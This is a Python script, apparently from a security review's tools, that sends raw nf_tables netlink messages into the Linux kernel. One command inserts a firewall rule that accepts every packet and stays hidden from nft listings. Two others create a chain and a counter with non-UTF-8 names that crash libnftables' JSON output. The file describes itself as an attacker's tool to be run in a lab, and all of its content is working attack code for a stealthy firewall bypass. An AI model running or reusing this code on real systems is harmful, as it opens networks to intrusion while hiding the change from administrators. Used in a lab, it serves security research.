"""Raw nf_tables netlink, as an attacker with CAP_NET_ADMIN uses it to put into the kernel what
the nft tool refuses or cannot show (run inside a lab namespace, as a script):

    nfraw.py hidden-accept FAMILY TABLE CHAIN   insert at the head of CHAIN a rule
        [immediate accept][inner ...]: the kernel ends it at the accept (the ``inner``
        expression never runs), so it accepts every packet; nft/libnftables 1.0.6 does not
        know ``inner`` (kernel >= 6.2) and leaves the whole rule out of every listing
    nfraw.py badname-chain TABLE                 make table ``inet TABLE`` with a chain whose name
        is not UTF-8 (libnftables 1.0.6 abort()s printing it as JSON)
    nfraw.py badname-counter TABLE               add to table ``inet TABLE`` a named counter whose
        name is not UTF-8 (the same)

From the review's tools (nlrule.py, badname.py)."""

from __future__ import annotations

import os
import socket
import struct
import sys

NETLINK_NETFILTER = 12
NFNL_SUBSYS_NFTABLES = 10
NFT_MSG_NEWTABLE, NFT_MSG_NEWCHAIN, NFT_MSG_NEWRULE, NFT_MSG_NEWOBJ = 0, 3, 6, 18
NFNL_MSG_BATCH_BEGIN, NFNL_MSG_BATCH_END = 0x10, 0x11
NLM_F_REQUEST, NLM_F_ACK, NLM_F_CREATE = 0x1, 0x4, 0x400
NLA_F_NESTED = 0x8000
FAMILY = {"inet": 1, "ip": 2, "ip6": 10}
HDR = struct.Struct("=IHHII")
BAD_NAME = b"x\xff\xfey\0"


def attr(kind: int, payload: bytes, nested: bool = False) -> bytes:
    raw = struct.pack("=HH", 4 + len(payload), kind | (NLA_F_NESTED if nested else 0)) + payload
    return raw + b"\0" * (-len(raw) % 4)


def s(x: str) -> bytes:
    return x.encode() + b"\0"


def be32(v: int) -> bytes:
    return struct.pack(">I", v)


def msg(kind: int, flags: int, seq: int, family: int, body: bytes, res_id: int = 0) -> bytes:
    payload = struct.pack("=BBH", family, 0, socket.htons(res_id)) + body
    return HDR.pack(HDR.size + len(payload), kind, flags, seq, 0) + payload


def batch(*parts: bytes, seq: int = 100) -> None:
    """One nf_tables transaction; OSError when the kernel refuses a part of it."""
    begin = msg(NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, seq, 0, b"", res_id=NFNL_SUBSYS_NFTABLES)
    end = msg(NFNL_MSG_BATCH_END, NLM_F_REQUEST, seq + len(parts) + 1, 0, b"", res_id=NFNL_SUBSYS_NFTABLES)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER) as sock:
        sock.settimeout(5)
        sock.bind((0, 0))
        sock.send(begin + b"".join(parts) + end)
        acks = 0
        while acks < len(parts):
            buf = sock.recv(1 << 16)
            at = 0
            while at + HDR.size <= len(buf):
                ln, kind, _, _, _ = HDR.unpack_from(buf, at)
                if kind == 2:  # NLMSG_ERROR (an ack when 0)
                    (code,) = struct.unpack_from("=i", buf, at + HDR.size)
                    if code:
                        raise OSError(-code, os.strerror(-code))
                    acks += 1
                at += (ln + 3) & ~3


def _nft(kind: int) -> int:
    return (NFNL_SUBSYS_NFTABLES << 8) | kind


def inner_expr() -> bytes:
    """inner (vxlan) { meta l4proto -> reg 1 }"""
    meta = attr(1, s("meta")) + attr(2, attr(1, be32(1)) + attr(2, be32(16)), nested=True)
    data = attr(1, be32(0)) + attr(2, be32(1)) + attr(3, be32(0xF)) + attr(4, be32(8)) + attr(5, meta, nested=True)
    return attr(1, attr(1, s("inner")) + attr(2, data, nested=True), nested=True)


def accept_expr() -> bytes:
    verdict = attr(2, attr(1, be32(1)), nested=True)  # NFTA_DATA_VERDICT { NFTA_VERDICT_CODE NF_ACCEPT }
    return attr(
        1, attr(1, s("immediate")) + attr(2, attr(1, be32(0)) + attr(2, verdict, nested=True), nested=True), nested=True
    )


def hidden_accept(family: str, table: str, chain: str) -> None:
    body = attr(1, s(table)) + attr(2, s(chain)) + attr(4, accept_expr() + inner_expr(), nested=True)
    batch(msg(_nft(NFT_MSG_NEWRULE), NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK, 101, FAMILY[family], body))


def badname_chain(table: str) -> None:
    flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK
    batch(
        msg(_nft(NFT_MSG_NEWTABLE), flags, 101, 1, attr(1, s(table))),
        msg(_nft(NFT_MSG_NEWCHAIN), flags, 102, 1, attr(1, s(table)) + attr(3, BAD_NAME)),
    )


def badname_counter(table: str) -> None:
    """A named counter whose name is not UTF-8 in table ``inet TABLE`` (it exists)."""
    body = attr(1, s(table)) + attr(2, BAD_NAME) + attr(3, be32(1)) + attr(4, b"", nested=True)
    batch(msg(_nft(NFT_MSG_NEWOBJ), NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK, 101, 1, body))


if __name__ == "__main__":
    if sys.argv[1] == "hidden-accept":
        hidden_accept(*sys.argv[2:5])
    elif sys.argv[1] == "badname-chain":
        badname_chain(sys.argv[2])
    elif sys.argv[1] == "badname-counter":
        badname_counter(sys.argv[2])
    else:
        raise SystemExit(f"unknown command {sys.argv[1]}")
    print("done")
